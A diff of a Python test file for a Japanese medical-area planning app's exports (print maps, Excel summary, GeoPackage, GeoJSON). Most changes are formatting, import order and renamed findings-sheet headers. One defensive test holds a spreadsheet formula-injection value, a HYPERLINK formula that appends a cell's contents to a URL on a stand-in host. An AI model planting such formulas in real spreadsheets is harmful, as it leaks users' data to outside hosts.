@@ -1,4 +1,5 @@
 """Meeting exports on real data: print map (PNG/PDF), Excel summary, GeoPackage, GeoJSON, safe paths."""
+
 from __future__ import annotations
 
 import itertools
@@ -16,14 +17,14 @@ import pyogrio
 import pytest
 import shapely
 
-from geo_app.io.plans import plan_from_frame
 from geo_app import InputError, PlanError, load_municipalities, load_plan
 from geo_app.core.dissolve import dissolve
 from geo_app.io.datasets import CREDITS, VINTAGE
+from geo_app.io.plans import plan_from_frame
 from geo_app.views.layers import write_geojson, write_gpkg
-from geo_app.views.xlsx import write_summary_xlsx
 from geo_app.views.paths import safe_output_path
 from geo_app.views.printmap import font_file, missing_glyphs, write_print_map
+from geo_app.views.xlsx import write_summary_xlsx
 
 HOKKAIDO_TOTAL = 5_224_614
 
@@ -156,7 +157,9 @@ def test_print_map_tokyo_islands_go_to_insets(tmp_path):
 
 def test_print_map_kagoshima_amami_goes_to_inset(tmp_path):
     munis, plan = _secondary("鹿児島県")
-    r = write_print_map(munis, plan, tmp_path / "kagoshima.png", tmp_path / "kagoshima.pdf", level="secondary", paper="A3")
+    r = write_print_map(
+        munis, plan, tmp_path / "kagoshima.png", tmp_path / "kagoshima.pdf", level="secondary", paper="A3"
+    )
     assert r["inset_used"] is True
     inset_munis = {m for i in r["insets"] for m in i["municipalities"]}
     assert {"奄美市", "徳之島町", "与論町"} <= inset_munis
@@ -182,10 +185,20 @@ def test_print_map_rejects_bad_arguments(hokkaido, tmp_path):
 # ---- Excel -----------------------------------------------------------------------------------
 def test_summary_xlsx(hokkaido, tmp_path):
     munis, plan = hokkaido
-    findings = pd.DataFrame([{
-        "rule": "min_population", "severity": "warning", "title": "人口が少ない", "level": "homecare",
-        "area": "南十勝", "codes": ["01641", "01642"], "names": ["大樹町", "広尾町"], "message": "人口が2万人未満です。",
-    }])
+    findings = pd.DataFrame(
+        [
+            {
+                "rule": "min_population",
+                "severity": "warning",
+                "title": "人口が少ない",
+                "level": "homecare",
+                "area": "南十勝",
+                "codes": ["01641", "01642"],
+                "names": ["大樹町", "広尾町"],
+                "message": "人口が2万人未満です。",
+            }
+        ]
+    )
     path = write_summary_xlsx(munis, plan, tmp_path / "summary.xlsx", findings=findings, sources=["テスト用の出典"])
     wb = openpyxl.load_workbook(path)
     assert wb.sheetnames == ["在宅医療圏", "二次医療圏", "三次医療圏", "市町村", "所見", "出典"]
@@ -224,8 +237,9 @@ def test_summary_xlsx(hokkaido, tmp_path):
     assert asahikawa[1] == "旭川市" and asahikawa[header.index("人口")] == 329_306
 
     ws = wb["所見"]
-    assert [c.value for c in ws[1]] == ["ルール", "重要度", "項目", "単位", "圏域", "市町村コード", "市町村名", "内容"]
-    assert ws["F2"].value == "01641、01642" and ws["F2"].data_type == "s" and ws["B2"].value == "警告"
+    assert [c.value for c in ws[1]] == ["ルール", "重大度", "項目", "単位", "圏域", "市町村コード", "市町村名", "説明"]
+    assert ws["F2"].value == "01641、01642" and ws["F2"].data_type == "s" and ws["F2"].number_format == "@"
+    assert ws["B2"].value == "警告" and ws["D2"].value == "在宅医療圏" and ws["H2"].value == "人口が2万人未満です。"
 
     texts = [r[1] for r in wb["出典"].iter_rows(min_row=2, values_only=True)]
     assert VINTAGE in texts and all(c in texts for c in CREDITS) and "テスト用の出典" in texts
@@ -239,14 +253,36 @@ def test_summary_xlsx_without_findings_has_empty_sheet(hokkaido, tmp_path):
     munis, plan = hokkaido
     path = write_summary_xlsx(munis, plan, tmp_path / "s.xlsx")
     ws = openpyxl.load_workbook(path)["所見"]
-    assert ws.max_row == 1 and ws["A1"].value == "ルール" and ws["H1"].value == "内容"
+    assert ws.max_row == 1 and ws["A1"].value == "ルール" and ws["H1"].value == "説明"
+
+
+def test_findings_sheet_is_one_shape_whatever_the_writer_is_handed(hokkaido, tmp_path):
+    """`geo-app build` hands the findings, the app a `findings_frame` (English or Japanese):
+    the 所見 sheet is the same table, cell for cell (it used to be 重大度/内容/説明 from build and
+    重要度/項目/内容 from the app, with 内容 naming a different column in each)."""
+    from geo_app.core.rules import FINDING_HEADERS, findings_frame, validate
+
+    munis, plan = hokkaido
+    findings = validate(munis, plan)
+    assert findings  # the embedded plan has 未確定 areas and multipart warnings
+    sheets = []
+    for i, given in enumerate((findings, findings_frame(findings), findings_frame(findings, japanese=True))):
+        path = write_summary_xlsx(munis, plan, tmp_path / f"s{i}.xlsx", findings=given)
+        ws = openpyxl.load_workbook(path)["所見"]
+        sheets.append([[(c.value, c.number_format) for c in row] for row in ws.iter_rows()])
+    assert sheets[0] == sheets[1] == sheets[2]
+    assert [v for v, _ in sheets[0][0]] == list(FINDING_HEADERS.values())
+    assert len(sheets[0]) == 1 + len(findings)
+    assert {v for v, _ in (row[1] for row in sheets[0][1:])} <= {"エラー", "警告", "情報"}
 
 
 # ---- GIS layers ------------------------------------------------------------------------------
 def test_gpkg_layers(hokkaido, tmp_path):
     munis, plan = hokkaido
     path = tmp_path / "areas.gpkg"
-    gpd.GeoDataFrame({"x": [1]}, geometry=[shapely.Point(0, 0)], crs=4326).to_file(path, layer="stale", engine="pyogrio")
+    gpd.GeoDataFrame({"x": [1]}, geometry=[shapely.Point(0, 0)], crs=4326).to_file(
+        path, layer="stale", engine="pyogrio"
+    )
     write_gpkg(munis, plan, path)
     layers = dict(pyogrio.list_layers(path))
     assert set(layers) == {"municipalities", "homecare", "secondary", "tertiary"}  # old layer gone
@@ -310,9 +346,9 @@ def test_names_that_look_like_formulas_stay_text_and_round_trip(tmp_path, hokkai
 
     munis, hokkaido_plan = hokkaido
     from geo_app import load_plan
-    from geo_app.app.page_plans import plan_csv_bytes, plan_xlsx_bytes
-    from geo_app.views.xlsx import write_summary_xlsx
+    from geo_app.app.workspace import plan_csv_bytes, plan_xlsx_bytes
     from geo_app.core.plan import Plan
+    from geo_app.views.xlsx import write_summary_xlsx
 
     formula = '=HYPERLINK("http://example.invalid/?x="&A2,"詳細")'
     t = hokkaido_plan.table.copy()
